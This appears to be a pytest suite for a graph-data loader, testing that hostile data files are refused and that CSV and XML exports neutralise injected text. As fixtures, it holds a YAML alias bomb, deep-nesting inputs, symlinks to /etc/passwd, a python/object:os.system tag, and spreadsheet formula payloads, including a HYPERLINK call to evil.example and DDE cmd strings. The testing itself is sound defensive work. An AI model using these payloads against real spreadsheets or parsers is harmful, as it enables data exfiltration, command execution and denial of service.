"""Hostile data files: alias bombs, deep nesting, links out of the data folder, ids that collide once normalised,
control characters. Each is refused with a problem naming file and line (and record and field where there is one),
exit code 2 from the CLI and 422 from ``POST /admin/reload``, and the store is left as it was.

The full-size attacks that could run away on a weaker loader run in a subprocess with a time and memory cap, so a
regression fails in seconds instead of hanging the suite.
"""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from qgraph.api import create_app
from qgraph.config import Settings
from qgraph.loaders import DatasetError, load, read_graph
from qgraph.store import Store

from conftest import FIXTURES

VALID = FIXTURES / "valid"
TOKEN = "t0ken-for-tests-0123456789abcdef"
QGRAPH = Path(sys.executable).with_name("qgraph")

DOC = """documents:
  - id: doc
    title: 文書
    title_en: A document
    publisher: tests
    date: 2024
"""
CITE = "[{document: doc, section: '1', quote: a quote}]"


def alias_bomb(levels: int = 9) -> str:
    """Nine levels of nine aliases: about 1 KB that a naive loader expands into 9**9 mappings."""
    lines = ["a0: &a0 {k: v}"]
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def problems_of(paths: list[Path], store: Store | None = None) -> list[str]:
    with pytest.raises(DatasetError) as caught:
        read_graph(paths, store)
    return [str(p) for p in caught.value.problems]


def reload_answer(store: Store, paths: list[Path]) -> tuple[int, str]:
    settings = Settings(admin_token=TOKEN, reload_paths=paths)
    with TestClient(create_app(settings=settings, store=store), raise_server_exceptions=False) as client:
        response = client.post("/admin/reload", headers={"Authorization": f"Bearer {TOKEN}"})
    return response.status_code, response.text


def cli_dry_run(path: Path, tmp_path: Path, *, seconds: int = 60) -> subprocess.CompletedProcess[str]:
    """``qgraph load --dry-run PATH`` in a fresh process capped at 1.5 GB of address space and ``seconds``."""
    def cap() -> None:
        limit = 1536 * 1024 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    env = {**os.environ, "QGRAPH_STORE": "memory", "QGRAPH_DATA_DIR": str(tmp_path / "store")}
    return subprocess.run([str(QGRAPH), "load", "--dry-run", "--quiet", str(path)], capture_output=True, text=True,
                          env=env, timeout=seconds, preexec_fn=cap, check=False)


def assert_unchanged(store: Store, before: object, digest: str) -> None:
    assert store.counts() == before
    assert store.checksum() == digest


# --------------------------------------------------------------------------------------------- 1. alias bombs


def test_alias_bomb_is_refused_at_the_first_anchor_by_the_cli(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(alias_bomb())
    assert bomb.stat().st_size < 1100
    proc = cli_dry_run(bomb, tmp_path, seconds=60)
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert f"{bomb}:1: YAML anchors and aliases" in proc.stderr
    assert "Traceback" not in proc.stderr


@pytest.mark.parametrize("text, line", [
    ("institutions:\n  - &lab {id: lab-a, name: A, type: company, external: true, external_note: n}\n", 2),
    ("institutions:\n  - id: lab-a\n    name: &n A\n    aliases: [*n]\n", 3),
    ("base: &b {type: company}\ninstitutions:\n  - <<: *b\n    id: lab-a\n", 1),
], ids=["anchor", "alias", "merge-key"])
def test_anchors_and_aliases_are_refused_naming_the_line(store: Store, tmp_path: Path, text: str, line: int) -> None:
    store.load(read_graph([VALID], store))
    before, digest = store.counts(), store.checksum()
    path = tmp_path / "aliases.yaml"
    path.write_text(text)
    with pytest.raises(DatasetError) as caught:
        load([path], store)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}:{line}: YAML anchors and aliases (&name, *name, <<: *name) are not allowed in data files: "
        "write each value out"]
    assert_unchanged(store, before, digest)


def test_alias_bomb_through_reload_is_a_422(store: Store, tmp_path: Path) -> None:
    # Six levels (9**6 mappings) so that a loader that expands aliases still finishes, and fails the assertion.
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(alias_bomb(6))
    status, body = reload_answer(store, [bomb])
    assert status == 422, body
    assert "YAML anchors and aliases" in body and "bomb.yaml:1" in body
    assert store.counts().total_nodes == 0


# --------------------------------------------------------------------------------------------- 10. deep nesting


def test_deep_yaml_nesting_is_a_problem_not_a_crash(store: Store, tmp_path: Path) -> None:
    deep = tmp_path / "deep.yaml"
    deep.write_text("institutions:\n" + "  - " + "[" * 20_000 + "]" * 20_000 + "\n")
    assert problems_of([deep]) == [f"{deep}:2: nested more than 16 levels deep; a data file needs at most 5"]
    status, body = reload_answer(store, [deep])
    assert status == 422 and "nested more than 16 levels deep" in body


def test_deep_json_in_a_csv_sources_cell_is_a_problem_not_a_crash(store: Store, tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "documents.yaml").write_text(DOC)
    deep = folder / "institutions.csv"
    deep.write_text('id,name,type,sources\nlab-a,A,company,"' + "[" * 60_000 + "]" * 60_000 + '"\n')
    assert (f"{deep}:2, record 'lab-a', field 'sources': must be a JSON list of citations: nested too deeply"
            in problems_of([folder]))
    status, body = reload_answer(store, [folder])
    assert status == 422 and "nested too deeply" in body


def test_deep_nesting_through_the_cli_exits_2(tmp_path: Path) -> None:
    deep = tmp_path / "deep.yaml"
    deep.write_text("institutions: " + "[" * 20_000 + "]" * 20_000 + "\n")
    proc = cli_dry_run(deep, tmp_path)
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "nested more than 16 levels deep" in proc.stderr and "RecursionError" not in proc.stderr


# --------------------------------------------------------------------------------------------- 12. the C parser


def test_yaml_is_read_with_libyaml_and_keeps_lines(tmp_path: Path) -> None:
    import yaml

    from qgraph.loaders import yaml_events

    assert yaml.__with_libyaml__ and issubclass(yaml_events._Loader, yaml.CSafeLoader)
    path = tmp_path / "lines.yaml"
    path.write_text(DOC + "institutions:\n  - id: lab-a\n    name: A\n\n    type: spaceship\n"
                    f"    sources: {CITE}\n")
    assert problems_of([path]) == [f"{path}:11, record 'lab-a', field 'type': Input should be 'government-body', "
                                   "'national-lab', 'university', 'company', 'industry-consortium', "
                                   "'international-organisation', 'funding-agency' or 'other'"]


def test_yaml_scalars_keep_their_meaning(tmp_path: Path) -> None:
    """Numbers, booleans, null and quoted text as YAML's core schema says; dates stay text."""
    from qgraph.loaders.yaml_events import parse

    doc, lines = parse(b"a: 2023-11-03\nb: 2023\nc: '2023'\nd: true\ne: ~\nf: 1.5\ng: !!str 12\nh: [x, 'y']\n"
                       b"i: 0x1f\nj: ''\nk:\n")
    assert doc == {"a": "2023-11-03", "b": 2023, "c": "2023", "d": True, "e": None, "f": 1.5, "g": "12",
                   "h": ["x", "y"], "i": 31, "j": "", "k": None}
    assert lines == {k: i for i, k in enumerate("abcdefghijk", start=1)}


@pytest.mark.parametrize("text, line, fragment", [
    ("a: !!binary aGVsbG8=\n", 1, "YAML tag 'tag:yaml.org,2002:binary' is not allowed"),
    ("a: !!python/object:os.system {}\n", 1, "YAML tag 'tag:yaml.org,2002:python/object:os.system' is not allowed"),
    ("a: 1\n---\nb: 2\n", 2, "one YAML document"),
    ("? [a, b]\n: c\n", 1, "a mapping key must be a plain value"),
    ("a: !!int nope\n", 1, "'nope' is not a valid int"),
])
def test_other_yaml_features_are_refused(tmp_path: Path, text: str, line: int, fragment: str) -> None:
    path = tmp_path / "odd.yaml"
    path.write_text(text)
    (problem,) = problems_of([path])
    assert problem.startswith(f"{path}:{line}: ") and fragment in problem, problem


# --------------------------------------------------------------------------------------------- 11. symbolic links


def test_links_out_of_the_data_folder_are_refused_and_never_echoed(store: Store, tmp_path: Path) -> None:
    folder = tmp_path / "data"
    (folder / "sub").mkdir(parents=True)
    (folder / "documents.yaml").write_text(DOC)
    (folder / "passwd.yaml").symlink_to("/etc/passwd")
    (folder / "institutions.csv").symlink_to("/etc/passwd")
    (folder / "sub" / "etc").symlink_to("/etc")  # a linked folder is not descended into
    (folder / "nations.txt").write_text(f"nations:\n  - id: jp\n    code: JP\n    name: Japan\n    sources: {CITE}\n")
    (folder / "sub" / "nations.yaml").symlink_to(folder / "nations.txt")  # a link that stays inside is followed
    store.load(read_graph([VALID], store))
    before, digest = store.counts(), store.checksum()
    problems = problems_of([folder])
    expected = "a link to a file outside the data folder; links that leave it are not followed"
    assert sorted(problems) == sorted(f"{folder / name}: {expected} (copy the file in instead)"
                                      for name in ("passwd.yaml", "institutions.csv"))
    status, body = reload_answer(store, [folder])
    assert status == 422 and expected in body
    passwd = Path("/etc/passwd").read_text().splitlines()
    assert not any(line[:12] in body for line in passwd if len(line) >= 12), body
    assert "root:" not in body
    assert_unchanged(store, before, digest)
    (folder / "passwd.yaml").unlink()
    (folder / "institutions.csv").unlink()
    assert [n.id for n in read_graph([folder]).nodes] == ["jp"]


def test_a_file_that_is_not_data_is_quoted_short_and_escaped(tmp_path: Path) -> None:
    path = tmp_path / "junk.yaml"
    secret = "s3cret-" + "x" * 200
    path.write_text(f'"{secret}\\e[31m": 1\n"line two of the secret file": 2\n')
    text = "\n".join(problems_of([path]))
    assert secret[:40] in text and secret[:41] not in text
    assert "\x1b" not in text and "\\x1b" not in text  # the escape is beyond the excerpt: not shown at all


# --------------------------------------------------------------------------------------------- 4. ids


@pytest.mark.parametrize("raw_id", [" lab-a ", "lab-a\u3000", "\tlab-a"], ids=["spaces", "ideographic", "tab"])
def test_ids_that_change_when_stored_are_refused(store: Store, tmp_path: Path, raw_id: str) -> None:
    store.load(read_graph([VALID], store))
    before, digest = store.counts(), store.checksum()
    path = tmp_path / "ids.yaml"
    quoted = raw_id.replace("\t", "\\t").replace("\u3000", "\\u3000")
    path.write_text(DOC + f"institutions:\n  - id: \"{quoted}\"\n    name: Lab A two\n    type: company\n"
                          f"    sources: {CITE}\n")
    with pytest.raises(DatasetError) as caught:
        load([path], store)
    assert [str(p) for p in caught.value.problems] == [
        f"{path}:8, record {raw_id!r}, field 'id': {raw_id!r} has white space around it; write the id as 'lab-a' "
        "(ids are stored without it, so it would become another record's id)"]
    assert_unchanged(store, before, digest)


def test_ids_that_collide_once_normalised_are_duplicates(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "ids.yaml"
    lines = [DOC, "institutions:"]
    for raw_id in ("lab-a", " lab-a ", "lab-a\\u3000"):
        lines.append(f'  - id: "{raw_id}"\n    name: A\n    type: company\n    sources: {CITE}')
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(DatasetError) as caught:
        load([path], store)
    duplicates = [p for p in caught.value.problems if p.message.startswith("duplicate id")]
    assert [(p.line, p.record, p.field) for p in duplicates] == [(13, "lab-a", "id"), (17, "lab-a", "id")]
    assert all(f"already used at {path}:9" in p.message for p in duplicates)
    assert store.counts().total_nodes == 0


def test_link_fields_and_citations_are_checked_as_ids(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "documents.yaml").write_text(DOC)
    (folder / "institutions.csv").write_text(
        'id,name,type,nation,sources\n'
        'lab-b,B,company,"jp\u3000","[{""document"": "" doc"", ""section"": ""1"", ""quote"": ""q""}]"\n')
    problems = problems_of([folder])
    assert any(p.endswith("field 'nation': 'jp\\u3000' has white space around it; write the id as 'jp' (ids are "
                          "stored without it, so it would become another record's id)") for p in problems), problems
    assert any("field 'sources[0].document': ' doc' has white space around it" in p for p in problems), problems


# --------------------------------------------------------------------------------------------- 5. control characters

HOSTILE = {  # YAML double-quoted escapes of characters the loader refuses, and the name the problem gives them
    "\\x01": "U+0001", "\\x1b": "U+001B", "\\r": "U+000D", "\\x7f": "U+007F", "\\u0085": "U+0085",
    "\\u202e": "U+202E (RIGHT-TO-LEFT OVERRIDE)", "\\u2066": "U+2066 (LEFT-TO-RIGHT ISOLATE)",
    "\\u200b": "U+200B (ZERO WIDTH SPACE)", "\\u200d": "U+200D (ZERO WIDTH JOINER)",
    "\\ufeff": "U+FEFF (ZERO WIDTH NO-BREAK SPACE)", "\\u2028": "U+2028 (LINE SEPARATOR)", "\\uffff": "U+FFFF",
}


@pytest.mark.parametrize("escape", list(HOSTILE))
@pytest.mark.parametrize("field, line, yaml_field", [
    ("name", 10, "name: \"Lab{c}A\""),
    ("aliases[1]", 11, "aliases: [ok, \"b{c}\"]"),
    ("sources[0].quote", 12, "sources: [{{document: doc, section: '1', quote: \"q{c}\"}}]"),
], ids=["name", "alias", "quote"])
def test_control_bidi_and_zero_width_characters_are_refused(store: Store, tmp_path: Path, escape: str, field: str,
                                                           line: int, yaml_field: str) -> None:
    fields = {"name": 'name: "Lab A"', "aliases[1]": "aliases: [ok]", "sources[0].quote": f"sources: {CITE}"}
    fields[field] = yaml_field.format(c=escape)
    path = tmp_path / "chars.yaml"
    path.write_text(DOC + "institutions:\n  - id: lab-c\n    type: company\n"
                    + "".join(f"    {fields[k]}\n" for k in ("name", "aliases[1]", "sources[0].quote")))
    with pytest.raises(DatasetError) as caught:
        load([path], store)
    (problem,) = [p for p in caught.value.problems if p.field == field]
    assert (problem.file, problem.line, problem.record) == (str(path), line, "lab-c")
    assert problem.message.startswith(f"contains {HOSTILE[escape]}")
    assert problem.message.endswith("control, bidirectional and zero-width characters are not allowed in data")
    assert store.counts().total_nodes == 0


def test_refused_characters_in_csv_cells_and_json_citations(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "documents.yaml").write_text(DOC)
    (folder / "institutions.csv").write_text(
        "id,name,type,description,sources\n"
        'lab-d,"D\u202egnp.exe",company,,"[{""document"": ""doc"", ""section"": ""1"", '
        '""quote"": ""half \\ud800 pair""}]"\n'
        'lab-e,E,company,"two\r\nlines, and\ttab","[{""document"": ""doc"", ""section"": ""1"", ""quote"": ""q""}]"\n',
        newline="")
    rule = "control, bidirectional and zero-width characters are not allowed in data"
    where = f"{folder / 'institutions.csv'}:2, record 'lab-d'"
    problems = problems_of([folder])
    assert f"{where}, field 'name': contains U+202E (RIGHT-TO-LEFT OVERRIDE) at character 2: {rule}" in problems
    assert f"{where}, field 'sources[0].quote': contains U+D800 at character 6: {rule}" in problems
    assert not any("lab-e" in p for p in problems), problems  # CRLF inside a cell and a tab are fine


def test_tabs_and_line_breaks_stay_allowed(tmp_path: Path) -> None:
    path = tmp_path / "ok.yaml"
    path.write_text(DOC + 'institutions:\n  - id: lab-t\n    name: "Lab\\tT"\n    type: company\n'
                    '    description: "line one\\nline two"\n' + f"    sources: {CITE}\n")
    (node,) = read_graph([path]).nodes
    assert node.properties["name"] == "Lab\tT" and node.properties["description"] == "line one\nline two"


def test_search_folds_zero_width_characters(curated_store: Store) -> None:
    from qgraph.queries import Queries
    from qgraph.text import normalise

    assert normalise("AI\u200bST\u2060") == normalise("A\u200dIST\ufeff") == "aist"
    hits = Queries(curated_store).search("AI\u200bST")
    assert "aist" in [h.entity.id for h in hits.hits]


# --------------------------------------------------------------------------------------------- 5, 6. exports

FORMULAS = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "description": "+cmd|' /C calc'!A0",
            "name_ja": "@SUM(1+1)*cmd|' /C calc'!A0", "aliases": "-2+3+cmd|' /C calc'!A0"}
MARKUP = "<b>\"Q&A\"</b> ]]> -- <!-- x --> 'q' \t tab, עברית, 🧪, 量子＆"


def hostile_file(path: Path) -> Path:
    """One institution whose text tries formulas and XML markup (all of it allowed: none is a refused character),
    located in a nation whose name holds the markup."""
    def q(text: str) -> str:
        return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\n", "\\n") + '"'

    path.write_text(DOC + f"nations:\n  - id: jp\n    code: JP\n    name: {q(MARKUP)}\n    sources: {CITE}\n"
                    f"institutions:\n  - id: lab-h\n    name: {q(FORMULAS['name'])}\n"
                    f"    name_ja: {q(FORMULAS['name_ja'])}\n    aliases: [{q(FORMULAS['aliases'])}, ok]\n"
                    f"    description: {q(FORMULAS['description'] + chr(10) + MARKUP)}\n    type: company\n"
                    f"    nation: jp\n    sources: [{{document: doc, section: {q(MARKUP)}, quote: {q(MARKUP)}}}]\n")
    return path


@pytest.fixture
def hostile_client(store: Store, tmp_path: Path) -> TestClient:
    store.load(read_graph([hostile_file(tmp_path / "hostile.yaml")], store))
    with TestClient(create_app(store=store)) as client:
        yield client


@pytest.mark.parametrize("fmt", ["gexf", "graphml", "svg"])
def test_xml_exports_are_well_formed_with_hostile_text(hostile_client: TestClient, fmt: str) -> None:
    import io
    import xml.etree.ElementTree as ET

    import networkx as nx

    response = hostile_client.get(f"/export/{fmt}", params={"focus": "lab-h", "depth": 1})
    assert response.status_code == 200, response.text
    root = ET.fromstring(response.content)  # expat: raises on anything that is not well-formed XML
    assert root.tag.endswith({"gexf": "gexf", "graphml": "graphml", "svg": "svg"}[fmt])
    if fmt != "svg":
        graph = (nx.read_gexf if fmt == "gexf" else nx.read_graphml)(io.BytesIO(response.content))
        assert graph.nodes["lab-h"]["label"] == FORMULAS["name"]
        assert graph.nodes["jp"]["label"] == MARKUP
        # (GEXF keeps attributes in XML attributes, where a parser reads a raw line break as a space)
        assert graph.nodes["lab-h"]["description"] in (FORMULAS["description"] + sep + MARKUP for sep in "\n ")


def test_csv_exports_neutralise_formulas(hostile_client: TestClient) -> None:
    import csv
    import io
    import zipfile

    response = hostile_client.get("/export/csv", params={"focus": "lab-h", "depth": 1})
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        nodes = list(csv.DictReader(io.StringIO(z.read("nodes.csv").decode("utf-8-sig"), newline="")))
        edges = list(csv.DictReader(io.StringIO(z.read("edges.csv").decode("utf-8-sig"), newline="")))
    (lab,) = [row for row in nodes if row["id"] == "lab-h"]
    assert lab["name"] == "'" + FORMULAS["name"]
    assert lab["name_ja"] == "'" + FORMULAS["name_ja"]
    assert lab["aliases"] == "'" + FORMULAS["aliases"] + "|ok"
    assert lab["description"] == "'" + FORMULAS["description"] + "\n" + MARKUP
    assert lab["degree"] == "1"
    assert [e["source_name"] for e in edges] == ["'" + FORMULAS["name"]]
    formula = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in nodes + edges for cell in row.values() if cell.startswith(formula)]


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3+cmd", "'-2+3+cmd"), ("-1+1", "'-1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"), ("-3", "-3"), ("+1.5e3", "+1.5e3"), ("-.5", "-.5"), (-3, -3), (2.5, 2.5), ("a=1", "a=1"),
    ("", ""), ("- item", "'- item"),
])
def test_the_spreadsheet_rule(cell: object, written: object) -> None:
    from qgraph.viz.exports import spreadsheet_safe

    assert spreadsheet_safe(cell) == written


def test_exports_of_data_written_before_the_checks_stay_well_formed() -> None:
    """A store filled by an older loader may hold refused characters: every export replaces them with U+FFFD."""
    import warnings
    import xml.etree.ElementTree as ET

    from qgraph.model import Citation
    from qgraph.results import GraphEdge, GraphNode, SubgraphResult
    from qgraph.viz import FORMATS, export

    cite = [Citation(document="d", section="s\x02", quote="q\x01 \u202e")]
    nodes = [GraphNode(id="a", kind="Institution", name="A\x01\x1b[31m\ufffe\ud800", nation="jp",
                       properties={"name": "A\x01", "aliases": ["x\x0c"], "description": "\x00"}, sources=cite),
             GraphNode(id="b", kind="Institution", name="B\u200b", properties={"name": "B"}, sources=cite)]
    result = SubgraphResult(title="T\x07", query={"view": "ego", "id": "a", "depth": 1}, filters={}, nodes=nodes,
                            edges=[GraphEdge(type="MEMBER_OF", source="a", target="b", sources=cite)])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # matplotlib: no glyph for U+FFFD in some fonts
        data = {fmt: export(result, fmt) for fmt in FORMATS}
    for fmt in ("gexf", "graphml", "svg"):
        ET.fromstring(data[fmt])
    assert "A\ufffd\ufffd[31m\ufffd\ufffd" in data["gexf"].decode("utf-8")
    assert b"\\u0001" not in data["json"] and "\ufffd" in data["json"].decode("utf-8")


def test_records_validated_in_batches_keep_their_problems(tmp_path: Path) -> None:
    """Big files are validated in batches (``loaders.validate._BATCH``): a bad record in a later batch is still
    named with its line, and every good one becomes a node."""
    from qgraph.loaders.validate import _BATCH

    rows = [f"lab-{i},Lab {i},university" for i in range(_BATCH + 10)]
    rows[_BATCH + 3] = f"lab-{_BATCH + 3},Lab,castle"
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "institutions.csv").write_text("id,name,type,external,external_note\n"
                                             + "\n".join(r + ",true,synthetic" for r in rows) + "\n")
    with pytest.raises(DatasetError) as caught:
        read_graph([folder])
    assert [(p.line, p.record, p.field) for p in caught.value.problems] == [(_BATCH + 5, f"lab-{_BATCH + 3}", "type")]
    rows[_BATCH + 3] = f"lab-{_BATCH + 3},Lab,university"
    (folder / "institutions.csv").write_text("id,name,type,external,external_note\n"
                                             + "\n".join(r + ",true,synthetic" for r in rows) + "\n")
    assert len(read_graph([folder]).nodes) == _BATCH + 10
